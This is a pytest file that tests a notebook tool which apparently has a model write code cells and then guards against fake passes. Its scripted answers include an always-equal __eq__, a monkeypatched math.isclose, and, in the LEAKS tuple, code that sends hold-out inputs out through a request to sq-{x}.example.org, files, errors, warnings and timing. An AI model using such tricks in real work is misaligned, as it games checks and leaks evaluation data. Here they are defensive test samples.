"""Passes that no separate process confirms, or a fresh kernel repeats; what a model sees of hold-outs."""

from __future__ import annotations

import json
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from command import CommandLine, answer, code, read_cells, read_events

ModelServer = Callable[..., str]

#: Decides by itself whether it is equal.
EQUAL_TO_ALL = "class Nine:\n    def __eq__(self, other):\n        return True\ndef sq(x):\n    return Nine()"
HONEST = "def sq(x):\n    return x * x"
PATCHED = "import math\nmath.isclose = lambda *a, **k: True\ndef half(x):\n    return x"


def sq_cells(source: str = "# Write sq(x).") -> list[dict[str, object]]:
    return [code("target", source), code("checks", "assert callable(sq)\nassert sq(3) == 9")]


@pytest.mark.parametrize("strict", [False, True])
def test_run_names_a_check_that_is_not_confirmed(
    cli: CommandLine, model_server: ModelServer, strict: bool
) -> None:
    notebook = cli.notebook("n.ipynb", sq_cells())
    flags = ["--strict"] if strict else []
    url = model_server(answer(EQUAL_TO_ALL, times=0))
    done = cli.run("run", "n.ipynb", "--base-url", url, "--in-place", *flags)
    assert done.status == (1 if strict else 0), done.stderr
    assert "2 of 2; 1 of 2 checks not confirmed" in done.stdout
    assert "not confirmed: `Nine.__eq__`" in done.stderr
    # Nobody could be asked, so that it was not run.
    target = read_cells(notebook)["target"]
    assert target["execution_count"] is None
    if target["source"] == f"# Write sq(x).\n{EQUAL_TO_ALL}":
        assert target["metadata"]["jupyterlab_refine"]["result"]["confirmed"] == {"n": 1, "of": 2}


@pytest.mark.parametrize("strict", [False, True])
def test_check_names_a_check_that_fails_separately(cli: CommandLine, strict: bool) -> None:
    checks = "import math\nassert half(0) == 0\nassert math.isclose(half(3), 1.5)"
    cli.notebook("n.ipynb", [code("target", PATCHED), code("checks", checks)])
    done = cli.run("check", "n.ipynb", "--json", *(["--strict"] if strict else []))
    assert done.status == (1 if strict else 0), done.stderr
    assert done.results["exitStatus"] == done.status
    (target,) = done.results["notebooks"][0]["targets"]
    confirmed = target["confirmed"]
    assert (confirmed["n"], confirmed["of"]) == (1, 2)
    (open_check,) = confirmed["reasons"]
    assert open_check["source"] == "assert math.isclose(half(3), 1.5)"
    assert "separate process" in open_check["reason"]
    assert "is False" in open_check["reason"]


#: Each tries to send what the hold-out calls it with, or the result, to the model. `OTHER` is what
#: it returns for anything but the visible call.
LEAKS = (
    """import urllib.request
def sq(x):
    try:
        urllib.request.urlopen(f"http://sq-{x}.example.org", timeout=1)
    except OSError:
        pass
    return 9 if x == 3 else OTHER""",
    """class Equal(int):
    def __eq__(self, other):
        print("compared with", other)
        return NOT_HELD_OUT or int(other) == 9
def sq(x):
    return Equal(x)""",
    """def sq(x):
    print("called with", x)
    with open(f"called-{x}.txt", "a") as file:
        file.write(str(x))
    return 9 if x == 3 else OTHER""",
    """def sq(x):
    if x != 3:
        raise ValueError(f"called with {x}, {x * x}")
    return 9""",
    """import warnings
def sq(x):
    warnings.warn(f"called with {x}")
    return 9 if x == 3 else OTHER""",
    """import time
def sq(x):
    if x != 3:
        time.sleep(x)
    return 9""",
)
CANARIES = ("7719", "59582961")
REVIEW = {
    "evaluation": "NEEDS_IMPROVEMENT",
    "score": 4,
    "criteria": {},
    "feedback": ["Shorten it."],
    "done": False,
}


@pytest.mark.parametrize(
    "workflow",
    [
        "scored",
        *(
            pytest.param(name, marks=pytest.mark.full)
            for name in ("execution", "evaluator-optimizer", "typed-evaluator", "self-refine")
        ),
    ],
)
def test_no_request_holds_what_a_hold_out_calls(
    cli: CommandLine, model_server: ModelServer, workflow: str
) -> None:
    # With a reviewing model a pass is not the end: what is said of a hold-out that held is seen as well.
    reviewed = workflow != "execution"
    sources = [
        text.replace("NOT_HELD_OUT", str(reviewed)).replace("OTHER", "x * x" if reviewed else "0")
        for text in LEAKS
    ]
    cells = [*sq_cells(), code("held", "assert sq(7719) == 59582961", tags=["refine-holdout"])]
    cli.notebook("n.ipynb", cells)
    review = {"match": "You judge one answer", "text": json.dumps(REVIEW), "times": 0}
    url = model_server(review, *[answer(source) for source in sources], answer("def sq(x): return 9"))
    options = ["--workflow", workflow, "--max-attempts", str(len(LEAKS) + 1), "--attempt-timeout", "3"]
    done = cli.run(
        *("run", "n.ipynb", "--base-url", url, *options, "--patience", "20"),
        *("--json", "--events", "events.jsonl"),
    )
    assert done.status == 1, done.stderr
    (target,) = done.results["notebooks"][0]["targets"]
    assert target["attempts"] == len(LEAKS) + 1, done.stderr
    outcomes = holdouts_of(cli.folder / "events.jsonl")
    assert set(outcomes) == ({"passed", "failed"} if reviewed else {"failed"})
    assert len(outcomes) == len(LEAKS) + 1
    requests = requests_of(url)
    assert len(requests) > len(LEAKS)
    for request in requests:
        text = json.dumps(request["body"])
        assert [canary for canary in CANARIES if canary in text] == []


def holdouts_of(events: Path) -> list[str]:
    """What became of the hold-out in each attempt of a model that ran it."""
    return [
        result["outcome"]
        for event in read_events(events)
        if event["type"] == "execution-end" and event["attempt"] > 0
        for result in event["execution"]["assertions"]
        if result["role"] == "holdout" and result["outcome"] != "not-run"
    ]


def requests_of(url: str) -> list[dict[str, Any]]:
    """The requests that a scripted model server was sent."""
    with urllib.request.urlopen(f"{url.removesuffix('/v1')}/__requests", timeout=10) as reply:
        found: list[dict[str, Any]] = json.load(reply)
    return [request for request in found if request["path"].endswith("/chat/completions")]


SLEEPS = "import sys, time\ndef half(x):\n    if {}:\n        time.sleep(600)\n    return x / 2"


def test_a_hold_out_that_hangs_fails(cli: CommandLine) -> None:
    held = code("held", "assert half(40) == 20", tags=["refine-holdout"])
    checks = code("checks", "assert half(3) == 1.5")
    cli.notebook("n.ipynb", [code("target", SLEEPS.format("x == 40")), checks, held])
    done = cli.run("check", "n.ipynb", "--attempt-timeout", "2", "--json")
    assert done.status == 1, done.stderr
    (target,) = done.results["notebooks"][0]["targets"]
    assert target["assertions"] == {"passed": 1, "total": 1}
    assert target["holdouts"] == {"passed": 0, "total": 1}


#: True in the first kernel that runs it in this folder, and in no other.
ONLY_ONCE = "import os\nfirst = not os.path.exists('seen')\nopen('seen', 'w').close()"


def once(target: str) -> list[dict[str, object]]:
    return [code("above", ONLY_ONCE), code("target", target), code("checks", "assert x is True")]


def test_a_pass_that_fails_in_a_fresh_kernel_is_not_accepted(
    cli: CommandLine, model_server: ModelServer
) -> None:
    cli.notebook("n.ipynb", once("# Set x."))
    url = model_server(answer("x = first"))
    done = cli.run("run", "n.ipynb", "--base-url", url, "--output", "out.ipynb", "--json", "--clean")
    assert done.status == 1, done.stderr
    (target,) = done.results["notebooks"][0]["targets"]
    assert target["stopReason"] == "passed"
    assert target["clean"]["passed"] is False
    assert "Passes here, but not in a fresh kernel" in target["message"]
    assert not (cli.folder / "out.ipynb").exists()
    cli.wait_for_no_process()


@pytest.mark.parametrize(
    ("source", "clean"),
    [("x = True", True), ("x = first", None)],
)
def test_provenance_says_what_was_repeated(
    cli: CommandLine, model_server: ModelServer, source: str, clean: bool | None
) -> None:
    cli.notebook("n.ipynb", once("# Set x."))
    url = model_server(answer(source))
    flags = ["--clean"] if clean else []
    done = cli.run("run", "n.ipynb", "--base-url", url, "--output", "out.ipynb", *flags)
    assert done.status == 0, done.stderr
    assert ("also passes in a fresh kernel" in done.stdout) is (clean is True)
    cells = read_cells(cli.folder / "out.ipynb")
    assert cells["target"]["metadata"]["jupyterlab_refine"]["result"].get("clean") is clean


def test_a_cell_above_that_fails_in_a_fresh_kernel_is_named(cli: CommandLine) -> None:
    cells = once("x = True")
    cells.insert(1, code("needs", "assert_first = 1 / first"))
    cli.notebook("n.ipynb", cells)
    done = cli.run("check", "n.ipynb", "--clean")
    assert done.status == 1, done.stderr
    assert "failed in the fresh kernel" in done.stdout
    assert "[needs]" in done.stdout


#: Adds a line to a file each time it runs.
COUNT = "with open('runs.txt', 'a') as file:\n    file.write('ran\\n')\nbase = 1"


def runs(cli: CommandLine) -> int:
    return len((cli.folder / "runs.txt").read_text().splitlines())


def test_one_fresh_kernel_serves_all_targets(cli: CommandLine, model_server: ModelServer) -> None:
    cli.notebook(
        "n.ipynb",
        [
            code("above", COUNT),
            code("first", "# Set x."),
            code("check1", "assert x == base"),
            code("second", "# Set y."),
            code("check2", "assert y == x + 1"),
        ],
    )
    url = model_server(answer("x = base"), answer("y = x + 1"))
    done = cli.run("run", "n.ipynb", "--base-url", url, "--in-place", "--clean")
    assert done.status == 0, done.stderr
    assert done.stdout.count("also passes in a fresh kernel") == 2
    assert runs(cli) == 2
    assert "Running in a fresh kernel: cell 0 [above], then the attempt.\n" in done.stderr
    assert "Running in a fresh kernel: cell 1 [first], cell 2 [check1], then the attempt.\n" in done.stderr


@pytest.mark.full
def test_a_skipped_cell_runs_once_and_costs_no_pass(cli: CommandLine) -> None:
    tagged = code("above", COUNT, tags=["refine-skip"])
    for target, said in (
        ("x = 1", "also passes in a fresh kernel"),
        ("x = base", "Cells tagged refine-skip that were skipped: 1."),
    ):
        cli.notebook("n.ipynb", [tagged, code("target", target), code("checks", "assert x == 1")])
        done = cli.run("check", "n.ipynb", "--clean")
        assert done.status == 0, done.stderr
        assert said in done.stdout + done.stderr
    assert runs(cli) == 2


HANGS_AGAIN = "import os\nwhile os.path.exists('seen'):\n    pass\nopen('seen', 'w').close()"


@pytest.mark.full
def test_a_fresh_run_ends_with_the_time_of_the_session(cli: CommandLine) -> None:
    cli.notebook(
        "n.ipynb", [code("above", HANGS_AGAIN), code("target", "x = 1"), code("checks", "assert x == 1")]
    )
    done = cli.run("check", "n.ipynb", "--clean", "--session-timeout", "5")
    assert done.status == 0, done.stderr
    assert "The run in a fresh kernel took longer than 5 s (sessionTimeout)." in done.stderr
    cli.wait_for_no_process()
